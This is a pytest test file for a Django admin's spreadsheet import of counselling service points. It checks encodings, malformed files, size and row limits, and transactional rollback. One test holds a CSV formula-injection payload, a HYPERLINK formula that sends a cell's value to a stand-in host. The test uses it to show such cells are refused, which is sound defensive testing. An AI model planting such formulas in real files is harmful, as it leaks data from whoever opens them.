"""Hostile and awkward uploads through the real admin import URL: CSVs in the encodings
Excel writes (GBK/GB18030 on Chinese Windows, UTF-16), files that are not spreadsheets,
huge fields, too many rows, formula cells. Never a 500, always a Chinese message, and a
refused file leaves the directory as it was."""

import random

import pytest
from django.contrib.auth import get_user_model
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from content.directory.models import ServicePoint

pytestmark = pytest.mark.django_db

URL = "directory_import:import"
NAME = "马陆镇大裕村心理咨询室"


@pytest.fixture
def admin_client(client, areas, audiences, offered, organization):
    user = get_user_model().objects.create_superuser("boss", "boss@example.org", "pw")
    client.force_login(user)
    return client


@pytest.fixture
def existing(make_service):
    return make_service("原有的咨询室")


def template_text(client) -> str:
    """The app's own CSV template, made importable against the test areas."""
    text = client.get(reverse(URL), {"template": "csv"}).content.decode("utf-8-sig")
    return text.replace("310114106201", "310114102201").replace("心理咨询、心理疏导", "心理咨询")


def upload(client, name: str, body: bytes):
    return client.post(reverse(URL), {"file": SimpleUploadedFile(name, body)})


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def assert_untouched(existing):
    assert list(ServicePoint.objects.values_list("name", flat=True)) == [existing.name]


@pytest.mark.parametrize(
    "encoding,label,name",
    [
        ("utf-8", "UTF-8", NAME),
        ("utf-8-sig", "UTF-8", NAME),
        ("gbk", "GBK", NAME),
        ("gb18030", "GB18030", "马陆镇𡈼村心理咨询室"),  # 𡈼 is not in GBK: only GB18030 has it
        ("utf-16", "UTF-16", "马陆镇𡈼村心理咨询室"),
        ("utf-16-le", "UTF-16", NAME),
    ],
)
def test_csv_in_the_encodings_excel_writes(admin_client, existing, encoding, label, name):
    text = template_text(admin_client).replace(NAME, name)
    body = text.encode(encoding)
    if encoding == "utf-16-le":  # Excel's "Unicode text": UTF-16 with a BOM, tab-separated
        body = "\ufeff".encode("utf-16-le") + text.replace(",", "\t").encode("utf-16-le")
    response = upload(admin_client, "服务点.csv", body)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert ServicePoint.objects.filter(name=name).exists()
    (message,) = messages_of(response)
    assert "新增 1 条" in message and label in message, message


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_random_bytes_are_refused_with_a_message(admin_client, existing, suffix):
    body = random.Random(14).randbytes(64 * 1024)
    response = upload(admin_client, "random" + suffix, body)
    assert response.status_code == 200
    html = response.content.decode()
    assert "未导入任何数据" in html
    assert ("不是有效的 .xlsx" if suffix == ".xlsx" else "不是文本格式的 CSV") in html
    assert_untouched(existing)


def test_excel_workbook_named_csv_and_old_xls_are_explained(admin_client, existing):
    workbook = admin_client.get(reverse(URL), {"template": "xlsx"}).content
    html = upload(admin_client, "named-wrong.csv", workbook).content.decode()
    assert "扩展名改为 .xlsx" in html
    xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
    html = upload(admin_client, "old.xlsx", xls).content.decode()
    assert "另存为" in html
    assert_untouched(existing)


def test_a_50_mb_field_is_refused(admin_client, existing):
    text = template_text(admin_client)
    header, example = text.splitlines()[:2]
    body = (header + "\r\n" + example + "\r\n" + "很长," * 2 + "x" * (50 * 1024 * 1024) + "\r\n").encode("utf-8")
    response = upload(admin_client, "huge.csv", body)
    assert response.status_code == 200
    html = response.content.decode()
    assert "未导入任何数据" in html and "32767" in html
    assert_untouched(existing)


def test_too_many_rows_are_refused(admin_client, existing, settings):
    settings.DIRECTORY_IMPORT_MAX_ROWS = 3
    header, example = template_text(admin_client).splitlines()[:2]
    rows = [example.replace(NAME, f"咨询室{i}") for i in range(5)]
    response = upload(admin_client, "many.csv", "\r\n".join([header, *rows]).encode("utf-8"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "未导入任何数据" in html and "最多 3 行" in html
    assert_untouched(existing)


def test_formula_cells_are_refused_and_quoted_ones_accepted(admin_client, existing):
    text = template_text(admin_client)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    body = text.replace(NAME, '"' + hostile.replace('"', '""') + '"').encode("utf-8")
    response = upload(admin_client, "formula.csv", body)
    assert response.status_code == 200
    assert "公式" in response.content.decode()
    assert_untouched(existing)
    # The way our own exports write such a name (a leading quote) imports as the name itself.
    body = text.replace(NAME, "\"'" + hostile.replace('"', '""') + '"').encode("utf-8")
    assert upload(admin_client, "quoted.csv", body).status_code == 302
    assert ServicePoint.objects.filter(name=hostile).exists()


def test_a_failed_import_half_way_writes_nothing(admin_client, existing, monkeypatch):
    """An error while writing (after validation passed) rolls everything back."""
    from content.directory import importing

    header, example = template_text(admin_client).splitlines()[:2]
    rows = [example.replace(NAME, f"咨询室{i}") for i in range(3)]
    calls = []
    original = importing._apply

    def flaky(sp, record, cache):
        calls.append(record.name)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return original(sp, record, cache)

    monkeypatch.setattr(importing, "_apply", flaky)
    response = upload(admin_client, "flaky.csv", "\r\n".join([header, *rows]).encode("utf-8"))
    assert response.status_code == 200
    assert "未导入任何数据" in response.content.decode()
    assert_untouched(existing)


def test_utf8_with_a_private_use_character_still_imports(admin_client, existing):
    """Names typed with a legacy user-defined glyph (private use area) are text in UTF-8;
    only a GB18030 reading treats such code points as a sign of random bytes."""
    name = "马陆镇\ue000村心理咨询室"
    body = template_text(admin_client).replace(NAME, name).encode("utf-8")
    response = upload(admin_client, "pua.csv", body)
    assert response.status_code == 302
    assert ServicePoint.objects.filter(name=name).exists()
